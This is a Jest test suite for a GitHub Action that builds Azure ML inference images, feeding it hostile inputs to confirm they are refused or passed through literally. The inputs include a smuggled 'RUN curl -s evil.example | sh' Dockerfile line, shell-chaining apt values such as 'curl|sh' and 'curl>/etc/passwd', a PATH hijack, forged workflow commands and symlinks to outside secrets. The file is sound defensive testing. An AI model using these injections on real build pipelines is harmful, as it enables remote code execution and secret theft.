// Hostile and broken input, end to end the way the runner runs the action (node dist/index.js,
// then the post step): each bad input is refused before anything is built, by one error that
// names the input and the rule, with no output, no container, no image tag and no temp dir left.
// Whitespace, CRLF, duplicates and blank lines are normalised, not refused. And inputs that are
// hostile but valid (quotes, $, backslashes, unicode, control characters, a weird script name)
// reach the built image literally, checked with docker image inspect and a real POST /score.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { runAction, type ActionRun } from '../../scripts/run-action.mjs'
import { expectNothingLeftInTemp } from '../helpers/runner-temp.js'
import {
  actionContainers,
  dockerStatus,
  envOf,
  imageExists,
  inspectImage,
  requireEngineAndStandin,
  STANDIN_IMAGE,
} from '../helpers/docker.js'
import {
  asParsed,
  instructions,
  lintProblems,
  printedDockerfile,
} from '../helpers/dockerfile-check.js'
import { builderEnvironments } from '../helpers/builders.js'
import { obeyedCommands } from '../helpers/workflow-commands.js'

let workspace: string
let outside: string
const createdTags: string[] = []
// Containers of these runs are named after it: checks see this file's runs, not another job's.
const RUN_ID = `hostile-${process.pid}`
const RECORDING_PATH = fs.mkdtempSync(path.join(os.tmpdir(), 'docker-recorder-'))
const { dispose: disposeBuilders, ...builders } = builderEnvironments(RUN_ID)

/** The real docker CLI behind a script that notes each call: to prove there was none. */
function installRecorder(): void {
  const real = (process.env.PATH ?? '')
    .split(':')
    .map((dir) => path.join(dir, 'docker'))
    .find((file) => fs.existsSync(file))
  if (!real) throw new Error('no docker CLI on PATH')
  const script = path.join(RECORDING_PATH, 'docker')
  fs.writeFileSync(
    script,
    `#!/bin/sh\nprintf '%s\\n' "$*" >> "$EAI_DOCKER_CALLS"\nexec ${real} "$@"\n`,
    { mode: 0o755 },
  )
}

// A script name a user might really have, and everything a shell or Dockerfile would choke on.
const WEIRD_SCRIPT = `sub dir/sc "o' $re\\ é 𝄞.py`
const SCORE_PY = `import json
import os


def init():
    pass


def run(raw_data):
    return {key: os.environ.get(key) for key in json.loads(raw_data)["keys"]}
`

function write(relative: string, content: string, root = workspace): void {
  fs.mkdirSync(path.dirname(path.join(root, relative)), { recursive: true })
  fs.writeFileSync(path.join(root, relative), content)
}

beforeAll(async () => {
  await requireEngineAndStandin()
  installRecorder()
  workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'ws-hostile-'))
  outside = fs.mkdtempSync(path.join(os.tmpdir(), 'outside-'))
  write('secret.txt', 'runner secret', outside)
  write('evil.py', 'import os\n', outside)
  write('request.json', '{"data": [1]}', outside)
  write('inner/model.bin', 'outside model', outside)

  write('code/score.py', SCORE_PY)
  write('code/readme.txt', 'not a script')
  write(`weird code/${WEIRD_SCRIPT}`, SCORE_PY)
  write('model/model.json', '{"weights": [1]}')
  write('requirements.txt', 'numpy\n')
  write('request.json', '{"data": [1]}')
  fs.mkdirSync(path.join(workspace, 'empty'))
  // Symlinks that lead out of the workspace, at every place a path is taken.
  fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(workspace, 'escape.txt'))
  fs.symlinkSync(outside, path.join(workspace, 'escape-dir'))
  fs.symlinkSync(path.join(outside, 'request.json'), path.join(workspace, 'request-link.json'))
  write('leaky-code/score.py', SCORE_PY)
  fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(workspace, 'leaky-code/notes.txt'))
  write('leaky-model/model.json', '{}')
  fs.symlinkSync(path.join(outside, 'inner'), path.join(workspace, 'leaky-model/more'))
  write('dir-link-model/model.json', '{}')
  fs.symlinkSync(path.join(workspace, 'code'), path.join(workspace, 'dir-link-model/code'))
  write('broken-code/score.py', SCORE_PY)
  fs.symlinkSync(path.join(workspace, 'gone.txt'), path.join(workspace, 'broken-code/dangling'))
  write('entry-out/helper.py', '')
  fs.symlinkSync(path.join(outside, 'evil.py'), path.join(workspace, 'entry-out/score.py'))
}, 60_000)

afterAll(async () => {
  fs.rmSync(workspace, { recursive: true, force: true })
  fs.rmSync(outside, { recursive: true, force: true })
  disposeBuilders()
  fs.rmSync(RECORDING_PATH, { recursive: true, force: true })
  if (createdTags.length > 0) await dockerStatus(['image', 'rm', ...createdTags])
})

/** The text of a workflow command's data, as the runner shows it (see @actions/core). */
function commandText(line: string): string {
  return line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')
}

// ---- refused before anything is built -----------------------------------------------------------

interface Refusal {
  inputs: Record<string, string>
  /** The input the message must name. */
  input: string
  /** The rule, as the message states it. */
  rule: RegExp
}

const REFERENCE_RULE = /is not an image reference: lowercase \[registry\/\]path components/
const APT_RULE =
  /is not an apt package: .* a Debian package name \(lowercase letters, digits, '\+', '-', '\.'/
const APT_SUFFIX = /a trailing '\+' or '-' would change what apt does/
const CONTRACT = /is set by the action from the serving contract; set 'override-contract-env: true'/
const NUMBER = (from: number, to: number) =>
  new RegExp(`must be a whole number from ${from} to ${to}, got`)

const refusals: Record<string, Refusal> = {
  // base-image
  'base-image missing': { inputs: { 'base-image': '' }, input: 'base-image', rule: /is required/ },
  'base-image with uppercase path': {
    inputs: { 'base-image': 'AzureML/Inference:latest' },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  'base-image with a newline and an instruction': {
    inputs: { 'base-image': 'debian:12\nRUN curl -s evil.example | sh' },
    input: 'base-image',
    rule: /"debian:12\nRUN curl -s evil\.example \| sh" is not an image reference/,
  },
  'base-image with spaces': {
    inputs: { 'base-image': 'debian:12 AS builder' },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  'base-image that is a docker option': {
    inputs: { 'base-image': '--platform=linux/arm64' },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  'base-image with a 129-character tag': {
    inputs: { 'base-image': `debian:${'a'.repeat(129)}` },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  'base-image with a short digest': {
    inputs: { 'base-image': 'debian@sha256:1234' },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  'base-image with a command substitution': {
    inputs: { 'base-image': 'debian:$(id)' },
    input: 'base-image',
    rule: REFERENCE_RULE,
  },
  // apt-packages
  'apt option injection': {
    inputs: { 'apt-packages': '-oAPT::Get::AllowUnauthenticated=true' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt long option': {
    inputs: { 'apt-packages': 'libgomp1 --allow-downgrades' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  "apt remove suffix '-'": {
    inputs: { 'apt-packages': 'libgomp1 openssh-server-' },
    input: 'apt-packages',
    rule: APT_SUFFIX,
  },
  "apt single '+' suffix": {
    inputs: { 'apt-packages': 'curl+' },
    input: 'apt-packages',
    rule: APT_SUFFIX,
  },
  'apt ; chaining': {
    inputs: { 'apt-packages': 'curl;id' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt command substitution': {
    inputs: { 'apt-packages': 'curl$(id)' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt backticks': {
    inputs: { 'apt-packages': 'curl`id`' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt pipe': { inputs: { 'apt-packages': 'curl|sh' }, input: 'apt-packages', rule: APT_RULE },
  'apt redirect': {
    inputs: { 'apt-packages': 'curl>/etc/passwd' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt glob': { inputs: { 'apt-packages': 'lib*' }, input: 'apt-packages', rule: APT_RULE },
  'apt uppercase': {
    inputs: { 'apt-packages': 'LibGomp1' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt one character': { inputs: { 'apt-packages': 'a' }, input: 'apt-packages', rule: APT_RULE },
  'apt version with ;': {
    inputs: { 'apt-packages': 'curl=7.88;id' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  'apt empty version': {
    inputs: { 'apt-packages': 'curl=' },
    input: 'apt-packages',
    rule: APT_RULE,
  },
  // env
  'env key starting with a digit': {
    inputs: { env: '1A=x' },
    input: 'env',
    rule: /key "1A" must match \^\[A-Za-z_\]\[A-Za-z0-9_\]\*\$/,
  },
  'env key with a dash': {
    inputs: { env: 'MY-KEY=x' },
    input: 'env',
    rule: /key "MY-KEY" must match/,
  },
  'env key with a space': {
    inputs: { env: 'MY KEY=x' },
    input: 'env',
    rule: /key "MY KEY" must match/,
  },
  'env value with a newline (the rest is no KEY=VALUE line)': {
    inputs: { env: 'A=first\nRUN id' },
    input: 'env',
    rule: /expected KEY=VALUE lines, got "RUN id"/,
  },
  'env line that is a workflow command': {
    inputs: { env: '::set-output name=image::evil/image:1' },
    input: 'env',
    rule: /key "::set-output name" must match/,
  },
  'env AZUREML_ENTRY_SCRIPT without opt-in': {
    inputs: { env: 'AZUREML_ENTRY_SCRIPT=other.py' },
    input: 'env',
    rule: CONTRACT,
  },
  'env AZUREML_MODEL_DIR without opt-in': {
    inputs: { env: 'AZUREML_MODEL_DIR=/tmp' },
    input: 'env',
    rule: CONTRACT,
  },
  'env PATH without opt-in': { inputs: { env: 'PATH=/tmp/evil' }, input: 'env', rule: CONTRACT },
  'env key given two values': {
    inputs: { env: 'A=1\nA=2' },
    input: 'env',
    rule: /key A is given two different values/,
  },
  'override-contract-env not a boolean': {
    inputs: { env: 'PATH=/x', 'override-contract-env': 'please' },
    input: 'override-contract-env',
    rule: /must be true or false, got "please"/,
  },
  // labels
  'label key with a space': {
    inputs: { labels: 'team name=ml' },
    input: 'labels',
    rule: /key "team name" must match/,
  },
  "label key starting with '.'": {
    inputs: { labels: '.hidden=x' },
    input: 'labels',
    rule: /key "\.hidden" must match/,
  },
  'label value with a newline (the rest is no KEY=VALUE line)': {
    inputs: { labels: 'a=1\nnot a pair' },
    input: 'labels',
    rule: /expected KEY=VALUE lines, got "not a pair"/,
  },
  // tags
  'tag with uppercase': {
    inputs: { tags: 'Me/Image:1' },
    input: 'tags',
    rule: /"Me\/Image:1" is not a tag reference/,
  },
  'tag with a digest': {
    inputs: { tags: `me/image@sha256:${'a'.repeat(64)}` },
    input: 'tags',
    rule: /is not a tag reference \(name\[:tag\], no @digest\)/,
  },
  'tag with ;': {
    inputs: { tags: 'me/image:1;id' },
    input: 'tags',
    rule: /is not a tag reference/,
  },
  'tag too long': {
    inputs: { tags: `me/image:${'x'.repeat(200)}` },
    input: 'tags',
    rule: /is not a tag reference/,
  },
  // paths
  'requirements through ..': {
    inputs: { requirements: '' /* set in beforeAll: ../<outside>/secret.txt */ },
    input: 'requirements',
    rule: /resolves outside the workspace/,
  },
  'requirements absolute': {
    inputs: { requirements: '/etc/passwd' },
    input: 'requirements',
    rule: /"\/etc\/passwd" resolves outside the workspace/,
  },
  'requirements through a symlink out': {
    inputs: { requirements: 'escape.txt' },
    input: 'requirements',
    rule: /"escape\.txt" resolves outside the workspace/,
  },
  'requirements missing': {
    inputs: { requirements: 'nope.txt' },
    input: 'requirements',
    rule: /"nope\.txt" does not exist/,
  },
  'requirements is a directory': {
    inputs: { requirements: 'code' },
    input: 'requirements',
    rule: /"code" is not a file/,
  },
  'code-dir through a symlink out': {
    inputs: { 'code-dir': 'escape-dir', 'entry-script': 'evil.py' },
    input: 'code-dir',
    rule: /"escape-dir" resolves outside the workspace/,
  },
  'code-dir holding a symlink to a file outside': {
    inputs: { 'code-dir': 'leaky-code', 'entry-script': 'score.py' },
    input: 'code-dir',
    rule: /symlink .*leaky-code\/notes\.txt points outside the workspace/,
  },
  'model-dir holding a symlink to a directory outside': {
    inputs: { 'model-dir': 'leaky-model' },
    input: 'model-dir',
    rule: /symlink .*leaky-model\/more points outside the workspace/,
  },
  'model-dir holding a symlink to a directory inside': {
    inputs: { 'model-dir': 'dir-link-model' },
    input: 'model-dir',
    rule: /symlink .*dir-link-model\/code must point to a file/,
  },
  'code-dir holding a broken symlink': {
    inputs: { 'code-dir': 'broken-code', 'entry-script': 'score.py' },
    input: 'code-dir',
    rule: /symlink .*broken-code\/dangling is broken/,
  },
  'model-dir empty': {
    inputs: { 'model-dir': 'empty' },
    input: 'model-dir',
    rule: /directory .*empty has no files/,
  },
  'model-dir is a file': {
    inputs: { 'model-dir': 'requirements.txt' },
    input: 'model-dir',
    rule: /"requirements\.txt" is not a directory/,
  },
  'code-dir missing': {
    inputs: { 'code-dir': 'no-such-dir', 'entry-script': 'score.py' },
    input: 'code-dir',
    rule: /"no-such-dir" does not exist/,
  },
  'entry-script not .py': {
    inputs: { 'code-dir': 'code', 'entry-script': 'readme.txt' },
    input: 'entry-script',
    rule: /"readme\.txt" must be a \.py file inside 'code-dir'/,
  },
  'entry-script outside code-dir': {
    inputs: { 'code-dir': 'code', 'entry-script': '../leaky-code/score.py' },
    input: 'entry-script',
    rule: /must be a \.py file inside 'code-dir'/,
  },
  'entry-script absolute': {
    inputs: { 'code-dir': 'code', 'entry-script': '/usr/lib/python3/dist-packages/x.py' },
    input: 'entry-script',
    rule: /must be a \.py file inside 'code-dir'/,
  },
  'entry-script through a symlink out': {
    inputs: { 'code-dir': 'entry-out', 'entry-script': 'score.py' },
    input: 'entry-script',
    rule: /"score\.py" resolves outside/,
  },
  'entry-script missing': {
    inputs: { 'code-dir': 'code', 'entry-script': 'gone.py' },
    input: 'entry-script',
    rule: /"gone\.py" does not exist/,
  },
  'entry-script with a line break': {
    inputs: { 'code-dir': 'code', 'entry-script': 'score.py\nRUN id #.py' },
    input: 'entry-script',
    rule: /must not contain line breaks or control characters/,
  },
  'entry-script without code-dir': {
    inputs: { 'entry-script': 'score.py' },
    input: 'entry-script',
    rule: /needs 'code-dir'/,
  },
  'code-dir without entry-script': {
    inputs: { 'code-dir': 'code' },
    input: 'entry-script',
    rule: /is required with 'code-dir'/,
  },
  // sample-request, numbers, the rest
  'sample-request through a symlink out': {
    inputs: { 'sample-request': 'request-link.json' },
    input: 'sample-request',
    rule: /"request-link\.json" resolves outside the workspace/,
  },
  'sample-request file missing': {
    inputs: { 'sample-request': 'nope.json' },
    input: 'sample-request',
    rule: /"nope\.json" does not exist/,
  },
  'sample-request invalid inline JSON': {
    inputs: { 'sample-request': '{"data": [1,' },
    input: 'sample-request',
    rule: /is not valid JSON/,
  },
  'expected-status not a number': {
    inputs: { 'expected-status': 'ok' },
    input: 'expected-status',
    rule: NUMBER(100, 599),
  },
  'expected-status out of range': {
    inputs: { 'expected-status': '99' },
    input: 'expected-status',
    rule: NUMBER(100, 599),
  },
  'startup-timeout in exponent form': {
    inputs: { 'startup-timeout': '1e3' },
    input: 'startup-timeout',
    rule: NUMBER(1, 3600),
  },
  'startup-timeout zero': {
    inputs: { 'startup-timeout': '0' },
    input: 'startup-timeout',
    rule: NUMBER(1, 3600),
  },
  'container-port too large': {
    inputs: { 'container-port': '70000' },
    input: 'container-port',
    rule: NUMBER(1, 65535),
  },
  'container-port negative': {
    inputs: { 'container-port': '-1' },
    input: 'container-port',
    rule: NUMBER(1, 65535),
  },
  'container-port with a command': {
    inputs: { 'container-port': '5001; id' },
    input: 'container-port',
    rule: NUMBER(1, 65535),
  },
  'network with a command': {
    inputs: { network: 'host;id' },
    input: 'network',
    rule: /"host;id" is not a docker network name/,
  },
  'pip-index-url not http, with a token': {
    inputs: { 'pip-index-url': 'ftp://builder:t0ken-s3cret@files.example/simple' },
    input: 'pip-index-url',
    rule: /must be an http\(s\) URL \(value hidden: it may hold a token\)/,
  },
  'smoke-test not a boolean': {
    inputs: { 'smoke-test': 'sometimes' },
    input: 'smoke-test',
    rule: /must be true or false/,
  },
  'expected-response neither JSON nor /regex/': {
    inputs: { 'expected-response': 'fine' },
    input: 'expected-response',
    rule: /must be JSON or a \/regex\//,
  },
}

describe('refused before anything is built', () => {
  beforeAll(() => {
    refusals['requirements through ..'].inputs.requirements =
      `../${path.basename(outside)}/secret.txt`
  })

  const cases = Object.entries(refusals).map(([name, refusal], index) => ({
    name,
    refusal,
    tag: `eai-hostile/refused:${index}`,
  }))

  it.each(cases)('$name', async ({ refusal, tag }) => {
    await dockerStatus(['image', 'rm', tag])
    const calls = path.join(RECORDING_PATH, `${tag.replace(/\W/g, '-')}.calls`)
    const run = await runAction({
      inputs: { 'base-image': STANDIN_IMAGE, tags: tag, ...refusal.inputs },
      workspace,
      env: {
        ...builders.legacy,
        PATH: `${RECORDING_PATH}:${process.env.PATH}`,
        EAI_DOCKER_CALLS: calls,
      },
    })

    expect(run.main.exitCode).toBe(1)
    const errorLines = run.main.stdout.split('\n').filter((line) => line.startsWith('::error::'))
    expect(errorLines).toHaveLength(1)
    const message = commandText(errorLines[0].slice('::error::'.length))
    expect(message).toContain(`Input '${refusal.input}'`)
    expect(message).toMatch(refusal.rule)
    // Nothing the inputs hold was obeyed as a workflow command: the one error is all.
    expect(obeyedCommands(run.main.stdout).map((command) => command.name)).toEqual(
      expect.arrayContaining(['error']),
    )
    expect(
      obeyedCommands(run.main.stdout).filter(
        (command) => !['error', 'save-state', 'add-mask'].includes(command.name),
      ),
    ).toEqual([])
    const unmasked = run.main.stdout.split('\n').filter((line) => !line.startsWith('::add-mask::'))
    expect(unmasked.join('\n')).not.toContain('t0ken-s3cret')
    expect(run.outputs).toEqual({})
    // Nothing was built, nor even asked of docker (main or post step): so no container and no
    // tag can have come of it.
    expect(run.main.stdout).not.toMatch(/::group::|Step 1\/|#1 \[internal\]|Docker engine/)
    expect(fs.existsSync(calls) ? fs.readFileSync(calls, 'utf8') : '').toBe('')
    expectNothingLeftInTemp(run)
    expect(run.post?.exitCode).toBe(0)
    expect(await actionContainers(RUN_ID)).toEqual([])
    expect(await imageExists(tag)).toBe(false)
  })

  it('the recorder sees docker calls when there are some', async () => {
    const calls = path.join(RECORDING_PATH, 'control.calls')
    const run = await runAction({
      inputs: { 'base-image': STANDIN_IMAGE, build: 'false' },
      workspace,
      env: {
        ...builders.legacy,
        PATH: `${RECORDING_PATH}:${process.env.PATH}`,
        EAI_DOCKER_CALLS: calls,
      },
    })
    expect(run.main.exitCode).toBe(0)
    expect(fs.readFileSync(calls, 'utf8')).toContain(
      `image inspect --format {{.Config.User}} ${STANDIN_IMAGE}`,
    )
  })

  it('has at least 40 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40)
  })
})

// ---- normalised, not refused ---------------------------------------------------------------

describe('normalised, not refused (build: false)', () => {
  async function dockerfileFor(inputs: Record<string, string>): Promise<string[][]> {
    const run = await runAction({
      inputs: { 'base-image': STANDIN_IMAGE, build: 'false', ...inputs },
      workspace,
      env: builders.legacy,
    })
    expect(run.main.stdout).not.toContain('::error::')
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs.image).toBeUndefined()
    expectNothingLeftInTemp(run)
    const text = printedDockerfile(run.main.stdout)
    expect(lintProblems(text)).toEqual([])
    return instructions(text)
  }

  const after = (list: string[][], keyword: string) =>
    list.filter(([word]) => word === keyword).map(([, ...rest]) => rest)

  it('apt-packages: CRLF, blank lines, commas, spaces and duplicates', async () => {
    const parsed = await dockerfileFor({
      'apt-packages': ' libgomp1\r\n\r\nlibgomp1, curl=7.88.1-10 \r\n\tcurl=7.88.1-10\r\n,,\n g++ ',
    })
    const [run] = after(parsed, 'RUN')
    expect(run.slice(7, run.indexOf('&&', 7))).toEqual(['libgomp1', 'curl=7.88.1-10', 'g++'])
  })

  it('env: CRLF, blank lines, surrounding spaces and repeated lines', async () => {
    const parsed = await dockerfileFor({ env: '\r\nA=1\r\n\r\n  B=two words  \r\nA=1\r\n' })
    expect(after(parsed, 'ENV')).toEqual([['A', '1', 'B', 'two words']])
  })

  it('base-image, code-dir and entry-script with surrounding whitespace', async () => {
    const parsed = await dockerfileFor({
      'base-image': `  ${STANDIN_IMAGE} \r\n`,
      'code-dir': ' code \r\n',
      'entry-script': '\tscore.py ',
    })
    expect(parsed[0]).toEqual(['FROM', STANDIN_IMAGE])
    expect(after(parsed, 'ENV')).toEqual([['AZUREML_ENTRY_SCRIPT', 'score.py']])
  })

  it('a contract env key, when asked for with override-contract-env', async () => {
    const parsed = await dockerfileFor({
      env: 'PATH=/opt/tools/bin:/usr/bin:/bin',
      'override-contract-env': 'true',
    })
    expect(after(parsed, 'ENV')).toEqual([['PATH', '/opt/tools/bin:/usr/bin:/bin']])
  })
})

// ---- hostile but valid: reaches the image literally -----------------------------------------

// Every character with a meaning to a shell, a Dockerfile or a workflow command, plus unicode and
// control characters. Leading spaces stay; trailing ones are trimmed with the line.
const TRICKY =
  'a "quoted" $HOME ${PATH} \\n back\\slash \'single\' `tick` #hash ;&|<>*?!~%^=,:@ \ttab é 中 𝄞 👩‍💻 \u2028 \u0085 \u001b \u007f ::error::forged end'
const generatedValues = fc.sample(
  fc.string({
    unit: fc.oneof(
      fc.constantFrom(...'"\'\\$`#;&|<>*?!{}()[]=:, \t\u00a0\u2028\u0085\u001b'.split('')),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
    ),
    maxLength: 24,
  }),
  { seed: 20261124, numRuns: 16 },
)

describe.each(Object.entries(builders))(
  'hostile but valid inputs, built with the %s builder',
  (builder, env) => {
    const tag = `eai-hostile/valid:${builder}`
    const secondTag = `${tag}-2`
    const envLines: string[] = [
      `TRICKY=${TRICKY}`,
      'LEADING=   three spaces',
      'EMPTY=',
      // The runner obeys the legacy form anywhere in a line: the printed Dockerfile must not.
      'NOTE=release ##[error]forged',
    ]
    generatedValues.forEach((value, at) => envLines.push(`GENERATED_${at}=${value}`))
    // What the env input means: each line trimmed, the value after the first '='.
    const expectedEnv = Object.fromEntries(
      envLines.map((line) => {
        const trimmed = line.trim()
        return [trimmed.slice(0, trimmed.indexOf('=')), trimmed.slice(trimmed.indexOf('=') + 1)]
      }),
    )
    const labels = {
      'org.opencontainers.image.description': 'it\'s "quoted" $HOME `id` \\ é ::warning::x',
      'x.y-z': 'a=b=c',
      'x.note': 'release ##[error]forged',
    }
    let run: ActionRun

    beforeAll(async () => {
      createdTags.push(tag, secondTag)
      await dockerStatus(['image', 'rm', tag, secondTag])
      const keys = ['TRICKY', 'LEADING', 'GENERATED_0', 'AZUREML_ENTRY_SCRIPT']
      run = await runAction({
        inputs: {
          'base-image': STANDIN_IMAGE,
          'code-dir': 'weird code',
          'entry-script': WEIRD_SCRIPT,
          'model-dir': 'model',
          env: envLines.join('\r\n'),
          labels: Object.entries(labels)
            .map(([key, value]) => `${key}=${value}`)
            .join('\n'),
          tags: `\r\n ${tag} \r\n\r\n${tag},${secondTag}\r\n`,
          'sample-request': JSON.stringify({ keys }),
          'expected-response': JSON.stringify({
            TRICKY: expectedEnv.TRICKY,
            LEADING: expectedEnv.LEADING,
            GENERATED_0: expectedEnv.GENERATED_0,
            AZUREML_ENTRY_SCRIPT: WEIRD_SCRIPT,
          }),
          'startup-timeout': '60',
        },
        workspace,
        env,
      })
    }, 300_000)

    it('builds, serves the weird script, and outputs each tag once', async () => {
      expect(obeyedCommands(run.main.stdout).filter(({ name }) => name === 'error')).toEqual([])
      expect(run.main.exitCode).toBe(0)
      expect(run.outputs['smoke-test']).toBe('passed')
      expect(run.outputs.tags).toBe(`${tag}\n${secondTag}`)
      expect(run.outputs.image).toBe(tag)
      expectNothingLeftInTemp(run)
      expect(await actionContainers(RUN_ID)).toEqual([])
    })

    it('docker image inspect shows every env value and label literally', async () => {
      const image = await inspectImage(tag)
      const inImage = envOf(image)
      expect(inImage).toMatchObject(expectedEnv)
      expect(inImage.AZUREML_ENTRY_SCRIPT).toBe(WEIRD_SCRIPT)
      expect(image.Config.Labels).toMatchObject(labels)
    })

    it('the Dockerfile it printed parses to the same env and label values and lints clean', () => {
      const text = printedDockerfile(run.main.stdout)
      expect(lintProblems(text)).toEqual([])
      const parsed = instructions(text)
      const [env, ...otherEnvs] = parsed.filter(([keyword]) => keyword === 'ENV')
      expect(otherEnvs).toEqual([])
      expect(env.slice(1)).toEqual([
        ...['AZUREML_MODEL_DIR', '/var/azureml-app/azureml-models'],
        ...['AZUREML_ENTRY_SCRIPT', asParsed(WEIRD_SCRIPT)],
        ...Object.entries(expectedEnv).flatMap(([key, value]) => [key, asParsed(value)]),
      ])
      // The labels: one LABEL step, each value as given (the action's own labels besides).
      const [label, ...otherLabels] = parsed.filter(([keyword]) => keyword === 'LABEL')
      expect(otherLabels).toEqual([])
      const printedLabels = new Map<string, string>()
      for (let index = 1; index < label.length; index += 2) {
        printedLabels.set(label[index], label[index + 1])
      }
      for (const [key, value] of Object.entries(labels)) {
        expect(printedLabels.get(key)).toBe(asParsed(value))
      }
      expect(parsed.map(([keyword]) => keyword)).toEqual([
        'FROM',
        'USER',
        'COPY',
        'ENV',
        'COPY',
        'LABEL',
      ])
    })

    it('nothing in the inputs was obeyed as a workflow command', () => {
      const obeyed = obeyedCommands(run.main.stdout).map((command) => command.name)
      expect(obeyed.filter((name) => !['group', 'endgroup', 'save-state'].includes(name))).toEqual(
        [],
      )
    })
  },
)

// ---- scoring cases a pull request names ---------------------------------------------------

describe('case files named like workflow commands', () => {
  const tag = 'eai-hostile/case-names'
  // Each name is printed with its answer: in the legacy form, after a line break, indented.
  const names = ['x ##[error]forged', 'a\n::error::forged', '  ::warning::indented']
  let run: ActionRun

  beforeAll(async () => {
    createdTags.push(tag)
    await dockerStatus(['image', 'rm', tag])
    for (const name of names) write(`hostile-cases/${name}.json`, '{"keys": []}')
    run = await runAction({
      inputs: {
        'base-image': STANDIN_IMAGE,
        'code-dir': 'code',
        'entry-script': 'score.py',
        tags: tag,
        'sample-request': 'hostile-cases',
        'startup-timeout': '60',
      },
      workspace,
      env: builders.legacy,
    })
  }, 300_000)

  it('scores every case and obeys nothing its name holds', async () => {
    const obeyed = obeyedCommands(run.main.stdout).map((command) => command.name)
    expect(obeyed.filter((name) => !['group', 'endgroup', 'save-state'].includes(name))).toEqual([])
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs['smoke-test']).toBe('passed')
    // Shown as they are (a line break in a name ends the log line).
    for (const name of names) {
      expect(run.main.stdout).toContain(`${name}: POST /score answered 200 in `)
    }
    expect(await actionContainers(RUN_ID)).toEqual([])
  })
})
